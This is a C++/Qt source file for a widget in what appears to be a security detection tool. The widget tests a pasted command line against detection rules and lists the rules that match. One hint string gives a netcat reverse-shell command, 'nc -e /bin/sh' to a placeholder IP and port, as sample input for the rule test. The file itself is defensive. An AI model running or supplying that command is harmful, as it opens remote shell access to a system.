#include "ui/rules/RuleTestBox.h"

#include <QHBoxLayout>
#include <QLineEdit>
#include <QMenu>
#include <QPushButton>
#include <QToolButton>
#include <QVBoxLayout>

#include "ui/format/SafeText.h"
#include "ui/widgets/TextLabel.h"
#include "ui/widgets/Theme.h"

namespace ui {

namespace {

constexpr int kLongestCommand = 16'384;
constexpr qsizetype kMostMatches = 5;

}  // namespace

RuleTestBox::RuleTestBox(QWidget* parent)
    : Card(tr("Would it be found?"), parent),
      m_command(new QLineEdit),
      m_test(new QPushButton(tr("Test"))),
      m_choose(new QToolButton),
      m_answer(new TextLabel),
      m_matches(new QVBoxLayout) {
    m_command->setPlaceholderText(tr("Paste a command line"));
    m_command->setAccessibleName(tr("Command line to test"));
    m_command->setMaxLength(kLongestCommand);
    m_command->setClearButtonEnabled(true);
    m_test->setAccessibleName(tr("Test the command line"));
    m_choose->setText(tr("From an alert ▾"));
    m_choose->setProperty("kind", QStringLiteral("link"));
    m_choose->setAccessibleName(tr("Take the program of an alert"));
    m_choose->setPopupMode(QToolButton::InstantPopup);
    m_choose->setFocusPolicy(Qt::StrongFocus);
    m_choose->setMenu(new QMenu(this));
    m_answer->setWordWrap(true);
    m_answer->setTone(QStringLiteral("muted"));
    m_answer->setText(tr("It is held against the rules of files. Nothing is run."));
    auto* line = new QHBoxLayout;
    line->addWidget(m_command, 1);
    line->addWidget(m_test);
    m_matches->setSpacing(0);
    addToHeader(m_choose);
    body()->addLayout(line);
    body()->addWidget(m_answer);
    body()->addLayout(m_matches);
    connect(m_test, &QPushButton::clicked, this, &RuleTestBox::test);
    connect(m_command, &QLineEdit::returnPressed, this, &RuleTestBox::test);
    connect(m_command, &QLineEdit::textEdited, this, [this] { m_taken = {}; });
    connect(m_choose->menu(), &QMenu::aboutToShow, this, &RuleTestBox::fillPast);
}

void RuleTestBox::setCommandLine(const QString& text) {
    m_taken = {};
    m_command->setText(text);
}

void RuleTestBox::fillPast() {
    QMenu* menu = m_choose->menu();
    menu->clear();
    for (const Past& past : m_past ? m_past() : std::vector<Past>()) {
        QAction* action = menu->addAction(withoutMnemonic(past.title));
        connect(action, &QAction::triggered, this, [this, past] {
            setCommandLine(past.test.commandLine);
            m_taken = past.test;
            test();
        });
    }
    if (menu->isEmpty())
        menu->addAction(tr("No alert has a program yet"))->setEnabled(false);
}

void RuleTestBox::test() {
    clearMatches();
    RuleTest wanted = m_taken;
    if (wanted.commandLine.isEmpty())
        wanted = {m_command->text().trimmed(), {}, {}};
    if (wanted.commandLine.isEmpty()) {
        m_answer->setTone(QStringLiteral("muted"));
        m_answer->setText(tr("Paste a command line first, such as: nc -e /bin/sh 192.0.2.1 4444"));
        m_command->setFocus();
        return;
    }
    m_answer->setTone(QStringLiteral("muted"));
    m_answer->setText(tr("Testing…"));
    Q_EMIT testRequested(wanted);
}

void RuleTestBox::showResult(const RuleTestResult& result,
                             const std::function<QString(const QString&)>& titleOf) {
    clearMatches();
    if (!result.problem.isEmpty()) {
        m_answer->setTone(QStringLiteral("danger"));
        m_answer->setText(safeText(result.problem, 300));
        return;
    }
    const qsizetype count = result.matched.size();
    m_answer->setTone(count == 0 ? QStringLiteral("calm") : QStringLiteral("attention"));
    m_answer->setText(count == 0 ? tr("No rule of a file matches. Behaviour, such as a shell with "
                                      "a socket, is judged only while it happens.")
                      : count == 1 ? tr("One rule matches:")
                                   : tr("%1 rules match:").arg(count));
    for (const QString& id : result.matched.mid(0, kMostMatches))
        addMatch(id, titleOf(id));
    if (count > kMostMatches) {
        auto* more = new TextLabel(tr("and %1 more").arg(count - kMostMatches));
        more->setTone(QStringLiteral("muted"));
        m_matches->addWidget(more);
        m_rows << more;
    }
}

void RuleTestBox::addMatch(const QString& id, const QString& title) {
    auto* row = new QToolButton;
    row->setText(withoutMnemonic(cutInTheMiddle(title, 46)));
    row->setToolTip(plainToolTip(title));
    row->setProperty("kind", QStringLiteral("link"));
    row->setAccessibleName(tr("Show the rule %1").arg(title));
    row->setFocusPolicy(Qt::StrongFocus);
    connect(row, &QToolButton::clicked, this, [this, id] { Q_EMIT ruleWanted(id); });
    m_matches->addWidget(row, 0, Qt::AlignLeft);
    m_rows << row;
}

void RuleTestBox::clearMatches() {
    for (QWidget* row : m_rows) {
        row->hide();
        row->deleteLater();
    }
    m_rows.clear();
}

}  // namespace ui
